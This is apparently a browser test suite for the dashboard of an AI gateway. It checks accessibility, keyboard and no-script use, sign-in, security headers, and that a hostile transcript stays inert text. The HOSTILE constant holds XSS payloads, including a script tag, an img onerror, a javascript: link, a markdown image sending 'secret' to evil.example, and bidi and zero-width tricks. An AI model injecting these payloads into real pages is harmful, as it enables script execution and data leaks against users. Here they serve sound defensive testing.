// The dashboard in a real browser: every page, light and dark, narrow and wide, with axe, by
// keyboard, without script, and with a transcript that tries to break out.
//
//   CONCLAVE_URL       where the dashboard is (default http://127.0.0.1:8420)
//   CONCLAVE_PASSWORD  the password of CONCLAVE_NAME (default owner)
//   CONCLAVE_KEY       an API key: a calm and a hostile turn are sent first; without it both must
//                      be there already
//   CHROMIUM           the browser (default /usr/bin/chromium)
//   SCREENSHOTS        a folder for pictures; none are taken without it
import assert from "node:assert/strict";
import { mkdir } from "node:fs/promises";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { AxeBuilder } from "@axe-core/playwright";
import { chromium } from "playwright-core";

const base = (process.env.CONCLAVE_URL ?? "http://127.0.0.1:8420").replace(/\/$/, "");
const name = process.env.CONCLAVE_NAME ?? "owner";
const password = process.env.CONCLAVE_PASSWORD ?? "";
const pictures = process.env.SCREENSHOTS;
const SCHEMES = ["light", "dark"];
const SIZES = [{ width: 360, height: 780 }, { width: 1400, height: 900 }];
const ARGS = [
  "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync",
];
const HOSTILE = [
  "<script>alert('owned')</script>",
  "<img src=\"https://evil.example/pixel.png\" onerror=\"alert(1)\">",
  "![leak](https://evil.example/?q=secret) [click](javascript:alert(1))",
  "\u001b[31mred\u001b[0m invoice\u202efdp.exe \u2066isolated\u2069 zero\u200bwidth",
].join("\n");

let browser;
let session;
let hostile;

// A page that writes down whatever must not happen on it.
async function open(options = {}) {
  const context = await browser.newContext({ storageState: session, ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(15_000);
  page.trouble = [];
  page.on("dialog", (dialog) => {
    page.trouble.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  page.on("pageerror", (error) => page.trouble.push(`script error: ${error.message}`));
  page.on("console", (line) => {
    if (line.type() === "error") page.trouble.push(`console: ${line.text()}`);
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(`${base}/`)) page.trouble.push(`request to ${request.url()}`);
  });
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return page;
}

async function calm(page) {
  assert.deepEqual(await page.evaluate(() => window.violations ?? []), [], "policy violations");
  assert.deepEqual(page.trouble, []);
}

async function signIn(page) {
  await page.goto(`${base}/login`);
  await page.getByLabel("Name").fill(name);
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(`${base}/`);
}

// Nothing at all, also in what is folded away.
async function axe(page, what) {
  await page.evaluate(() => {
    for (const folded of document.querySelectorAll("details")) folded.open = true;
  });
  const { violations } = await new AxeBuilder({ page }).analyze();
  const found = violations.map(({ id, impact, nodes }) =>
    `${impact} ${id}: ${nodes.map((node) => node.target.join(" ")).slice(0, 5).join(" | ")}`);
  assert.deepEqual(found, [], what);
}

async function picture(page, file) {
  if (pictures) await page.screenshot({ path: path.join(pictures, `${file}.png`), fullPage: true });
}

// Sends a turn through the API; says where its decision can be seen.
async function say(content) {
  const answer = await fetch(`${base}/v1/chat/completions`, {
    method: "POST",
    headers: {
      authorization: `Bearer ${process.env.CONCLAVE_KEY}`,
      "content-type": "application/json",
    },
    body: JSON.stringify({ model: "builtin", messages: [{ role: "user", content }] }),
  });
  await answer.text();
  const id = answer.headers.get("x-conclave-audit-id");
  assert.ok(id, `the gateway gave no audit id (status ${answer.status})`);
  return `/decisions/${id}`;
}

async function links(page, address) {
  await page.goto(base + address);
  return page.locator("main table.list a[href^='/decisions/']").evaluateAll((all) =>
    all.map((link) => link.getAttribute("href")));
}

async function findHostile(page) {
  for (const address of await links(page, "/decisions")) {
    await page.goto(base + address);
    if ((await page.locator("main").innerText()).includes("alert('owned')")) return address;
  }
  throw new Error("no hostile decision was found: set CONCLAVE_KEY, or use the demo");
}

// One decision for each way to end that has happened.
async function oneOfEach(page) {
  await page.goto(`${base}/decisions`);
  const outcomes = await page.locator("#outcome option").evaluateAll((all) =>
    all.map((option) => option.value).filter(Boolean));
  const found = [];
  for (const outcome of outcomes) {
    const [address] = await links(page, `/decisions?outcome=${outcome}`);
    if (address) found.push([`decision-${outcome}`, address]);
  }
  return found;
}

before(async () => {
  assert.ok(password, "CONCLAVE_PASSWORD is not set");
  if (pictures) await mkdir(pictures, { recursive: true });
  const executablePath = process.env.CHROMIUM ?? "/usr/bin/chromium";
  browser = await chromium.launch({ executablePath, args: ARGS });
  const page = await open();
  await signIn(page);
  await calm(page);
  session = await page.context().storageState();
  if (process.env.CONCLAVE_KEY) {
    await say("It was a long day at work and I am glad to be home.");
    hostile = await say(HOSTILE);
  } else {
    hostile = await findHostile(page);
  }
  await page.context().close();
});

after(async () => { await browser?.close(); });

describe("every page, light and dark, narrow and wide", () => {
  for (const colorScheme of SCHEMES) {
    for (const viewport of SIZES) {
      test(`${colorScheme}, ${viewport.width} px`, { timeout: 600_000 }, async () => {
        const page = await open({ colorScheme, viewport });
        const pages = [
          ["overview", "/"],
          ["decisions", "/decisions"],
          ["reviews", "/reviews"],
          ["decisions-filtered", "/decisions?outcome=delivered&action=regenerate"],
          ["decisions-crisis", "/decisions?crisis=1"],
          ["decision-hostile", hostile],
          ["not-found", "/decisions/no-such-id"],
          ...await oneOfEach(page),
        ];
        page.trouble.length = 0;
        for (const [what, address] of pages) {
          await check(page, `${what}-${colorScheme}-${viewport.width}`, address);
        }
        await page.context().close();
        const outside = await open({ colorScheme, viewport, storageState: undefined });
        await check(outside, `login-${colorScheme}-${viewport.width}`, "/login");
        await outside.context().close();
      });
    }
  }

  async function check(page, what, address) {
    const answer = await page.goto(base + address);
    assert.match(answer.headers()["content-security-policy"], /default-src 'none'/, what);
    assert.equal(answer.headers()["cache-control"], "no-store", what);
    // Chromium itself complains about the missing decision; that is the page under test.
    if (what.startsWith("not-found")) {
      page.trouble = page.trouble.filter((line) => !line.includes("404"));
    }
    assert.equal(await page.locator("h1").count(), 1, `${what}: one heading`);
    assert.equal(await page.locator("html").getAttribute("lang"), "en");
    const [wide, seen] = await page.evaluate(() =>
      [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
    assert.ok(wide <= seen, `${what} scrolls sideways: ${wide} > ${seen}`);
    await calm(page);
    await picture(page, what);
    await axe(page, what);
  }
});

test("what is held is claimed, read as text, and decided", { timeout: 120_000 }, async (context) => {
  if (!process.env.CONCLAVE_KEY) return context.skip("needs CONCLAVE_KEY");
  const answer = await fetch(`${base}/v1/chat/completions`, {
    method: "POST",
    headers: {
      authorization: `Bearer ${process.env.CONCLAVE_KEY}`,
      "content-type": "application/json",
      "x-conclave-labels": "tk_cs",
    },
    body: JSON.stringify({ model: "builtin", messages: [{ role: "user", content: HOSTILE }] }),
  });
  const { conclave } = await answer.json();
  assert.equal(conclave.outcome, "held");
  for (const viewport of SIZES) {
    const page = await open({ viewport });
    await page.goto(`${base}/reviews`);
    await axe(page, `reviews ${viewport.width}`);
    await page.locator(`a[href='/reviews/${conclave.review_id}']`).click();
    await axe(page, `review ${viewport.width}`);
    assert.ok(!(await page.locator("main").innerText()).includes("owned"), "not claimed yet");
    await page.getByRole("button", { name: "Claim" }).click();
    await page.getByRole("heading", { name: "What is held" }).waitFor();
    assert.ok((await page.locator("main").innerText()).includes("<script>alert('owned')</script>"));
    assert.equal(await page.locator("main script, main img").count(), 0);
    const [wide, seen] = await page.evaluate(() =>
      [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
    assert.ok(wide <= seen, `the review scrolls sideways: ${wide} > ${seen}`);
    await axe(page, `claimed review ${viewport.width}`);
    await picture(page, `review-${viewport.width}`);
    await page.getByRole("button", { name: "Give it back" }).click();
    await page.getByRole("button", { name: "Claim" }).waitFor();
    await calm(page);
    await page.context().close();
  }
  const page = await open();
  await page.goto(`${base}/reviews/${conclave.review_id}`);
  await page.getByRole("button", { name: "Claim" }).click();
  await page.getByLabel("Ruling").selectOption("reject");
  await page.getByRole("button", { name: "Decide" }).click();
  await page.getByRole("heading", { name: "Rulings so far" }).waitFor();
  assert.ok((await page.locator("main").innerText()).includes("Rejected"));
  await calm(page);
  await page.context().close();
});

test("a hostile transcript stays text", async () => {
  const page = await open();
  await page.goto(base + hostile);
  const text = await page.locator("main").innerText();
  for (const shown of [
    "<script>alert('owned')</script>",
    "<img src=\"https://evil.example/pixel.png\" onerror=\"alert(1)\">",
    "![leak](https://evil.example/?q=secret)",
    "⟦U+202E⟧", "⟦U+2066⟧", "⟦U+001B⟧", "⟦U+200B",
  ]) {
    assert.ok(text.includes(shown), `not shown as text: ${shown}`);
  }
  const hidden = new RegExp("[\\u0000-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f" +
    "\\u200b-\\u200f\\u202a-\\u202e\\u2060-\\u206f\\ufeff]");
  assert.doesNotMatch(await page.content(), hidden, "something invisible is in the page");
  const escaped = await page.evaluate(() => [...document.querySelectorAll(
    "main :is(script, img, iframe, style, form, object, [onerror], [style], [src]), " +
    "main a[href^='javascript'], main a[href*='evil']")].map((element) => element.outerHTML));
  assert.deepEqual(escaped, []);
  const mark = page.locator("main .mark").first();
  assert.equal(await mark.evaluate((element) => getComputedStyle(element).unicodeBidi), "isolate");
  await calm(page);
  await page.context().close();
});

test("the keyboard reaches everything, and shows where it is", async () => {
  const page = await open({ viewport: SIZES[1] });
  for (const address of ["/", "/decisions", hostile]) {
    await page.goto(base + address);
    const wanted = await page.evaluate(() => [...document.querySelectorAll(
      "a[href], button, input:not([type=hidden]), select, summary, [tabindex='0']")]
      .filter((element) => element.checkVisibility()).length);
    const reached = [];
    for (let step = 0; step < wanted + 1; step += 1) {
      await page.keyboard.press("Tab");
      const at = await page.evaluate(() => {
        const element = document.activeElement;
        if (!element || element === document.body) return null;
        const style = getComputedStyle(element);
        element.dataset.reached = "yes";
        const text = element.textContent.trim().slice(0, 40);
        return { tag: element.tagName, text, outline: style.outlineStyle };
      });
      if (!at) break;
      reached.push(at);
      assert.notEqual(at.outline, "none", `${address}: no focus ring on ${at.tag} ${at.text}`);
    }
    assert.equal(reached[0].text, "Skip to the content", address);
    const got = await page.evaluate(() => document.querySelectorAll("[data-reached]").length);
    assert.equal(got, wanted, `${address}: reached ${got} of ${wanted}`);
  }
  await page.goto(`${base}/`);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  const at = await page.evaluate(() => document.activeElement.id);
  assert.equal(at, "main", "the skip link leads to the content");
  await page.context().close();
});

test("everything works without script", async () => {
  const page = await open({ javaScriptEnabled: false, storageState: undefined });
  await signIn(page);
  await page.getByRole("heading", { name: "Overview" }).waitFor();
  assert.match(await page.locator(".tile .figure").first().innerText(), /^[\d,]+$/);
  await page.getByText("Show the numbers").click();
  assert.equal(await page.locator(".numbers tbody tr").count(), 24);
  await page.getByRole("link", { name: "Decisions", exact: true }).click();
  await page.getByLabel("Outcome").selectOption("delivered");
  await page.getByRole("button", { name: "Apply" }).click();
  await page.waitForURL(/outcome=delivered/);
  await page.locator("main table.list tbody a").first().click();
  await page.getByRole("heading", { name: "In plain words" }).waitFor();
  assert.ok(await page.locator("table.ballots tbody tr").count() >= 3, "at least three ballots");
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.waitForURL(`${base}/login`);
  await page.goto(`${base}/decisions`);
  assert.equal(new URL(page.url()).pathname, "/login", "signed out means signed out");
  assert.deepEqual(page.trouble, []);
  await page.context().close();
});

test("a wrong password opens nothing, and the way back is kept", async () => {
  const page = await open({ storageState: undefined });
  await page.goto(`${base}/decisions?outcome=blocked`);
  assert.equal(new URL(page.url()).pathname, "/login");
  await page.getByLabel("Name").fill("nobody at all");
  await page.getByLabel("Password").fill("not the password");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").waitFor();
  assert.match(await page.getByRole("alert").innerText(), /wrong/);
  await page.getByLabel("Name").fill(name);
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(/\/decisions\?outcome=blocked$/);
  const cookies = await page.context().cookies();
  for (const cookie of cookies) {
    assert.ok(cookie.httpOnly && cookie.sameSite === "Strict", cookie.name);
  }
  await page.context().close();
});

test("the tiles move", async () => {
  const page = await open();
  await page.goto(`${base}/`);
  const answered = page.waitForResponse(`${base}/live`);
  await page.evaluate(() => document.dispatchEvent(new Event("visibilitychange")));
  const figures = await (await answered).json();
  await page.getByText(/^Updated \d\d:\d\d:\d\d UTC$/).waitFor();
  assert.equal(await page.locator("[data-figure=decisions]").innerText(), figures.decisions);
  await calm(page);
  await page.context().close();
});

test("the reference is sound, also without script", { timeout: 300_000 }, async () => {
  // The page is long and the same everywhere, so each colour is looked at in one width.
  for (const [colorScheme, viewport] of [["light", SIZES[1]], ["dark", SIZES[0]]]) {
    const page = await open({ colorScheme, viewport, storageState: undefined });
    await page.goto(`${base}/docs`);
    assert.equal(await page.locator("h1").count(), 1);
    const [wide, seen] = await page.evaluate(() =>
      [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
    assert.ok(wide <= seen, `the reference scrolls sideways: ${wide} > ${seen}`);
    await axe(page, `reference ${colorScheme} ${viewport.width}`);
    await calm(page);
    await page.context().close();
  }
  const page = await open({ javaScriptEnabled: false, storageState: undefined });
  await page.goto(`${base}/docs`);
  await page.locator("nav a[href='#createChatCompletion']").first().click();
  assert.ok(page.url().endsWith("#createChatCompletion"));
  assert.equal(await page.locator("main script").count(), 0);
  await page.context().close();
});
